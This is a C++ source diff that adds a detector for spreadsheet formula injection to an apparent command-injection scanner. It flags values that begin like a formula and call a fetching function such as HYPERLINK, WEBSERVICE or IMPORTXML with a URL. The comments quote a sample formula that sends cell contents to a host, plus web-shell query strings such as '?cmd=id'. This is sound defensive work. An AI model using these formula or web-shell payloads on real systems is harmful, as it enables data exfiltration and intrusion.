@@ -1969,6 +1969,36 @@ std::size_t DdeFormula(std::string_view lower) {
   return std::string_view::npos;
 }
 
+namespace {
+
+// A value that is a spreadsheet formula fetching a URL ("=HYPERLINK(\"http://x/?\"&A1,...)",
+// "=WEBSERVICE(...)", "=IMPORTXML(...)"): exported to CSV and opened, it sends the sheet's
+// cells to that host (formula injection). Position of the formula, npos when none.
+std::size_t FetchingFormula(std::string_view lower) {
+  const std::size_t start = SkipSpaces(lower, 0);
+  if (start + 2 >= lower.size()) return std::string_view::npos;
+  const char lead = lower[start];
+  if (lead != '=' && lead != '+' && lead != '-' && lead != '@') return std::string_view::npos;
+  // The function right after the lead and its '(' right after the name, as spreadsheets
+  // write them: "- Image (from https://...)" is a list item.
+  const std::size_t f = start + 1;
+  std::size_t e = f;
+  while (e < lower.size() && IsAsciiAlpha(static_cast<unsigned char>(lower[e]))) ++e;
+  const std::string_view name = lower.substr(f, e - f);
+  bool fetches = false;
+  for (std::string_view fn : {"hyperlink"sv, "webservice"sv, "importxml"sv, "importdata"sv,
+                              "importhtml"sv, "importfeed"sv, "importrange"sv, "image"sv}) {
+    fetches = fetches || name == fn;
+  }
+  if (!fetches || e >= lower.size() || lower[e] != '(') return std::string_view::npos;
+  return Find(lower.substr(e), "http") != std::string_view::npos ||
+                 Find(lower.substr(e), "//") != std::string_view::npos
+             ? start
+             : std::string_view::npos;
+}
+
+}  // namespace
+
 // An argument named for a shell command ("cmd", "command", "exec", "shell"): web shells and
 // command-runner endpoints take the command there, so a reconnaissance command is the
 // attack ("?cmd=id", "?exec=ipconfig"), where elsewhere a lone word is just a word.
@@ -2049,6 +2079,10 @@ void DetectCmdi(const ValueView& v, DetectorScratch& scratch, FindingSink& sink)
   }
   if (RedirectionIntoSystemPath(lower)) {
     Report(sink, v, Category::kCmdi, 0.7f, "cmdi.redirection", 0, lower.size());
+    return;
+  }
+  if (const std::size_t at = FetchingFormula(lower); at != std::string_view::npos) {
+    Report(sink, v, Category::kCmdi, 0.7f, "cmdi.spreadsheet-fetch", at, lower.size() - at);
     return;
   }
   if (const std::size_t at = DdeFormula(lower); at != std::string_view::npos) {
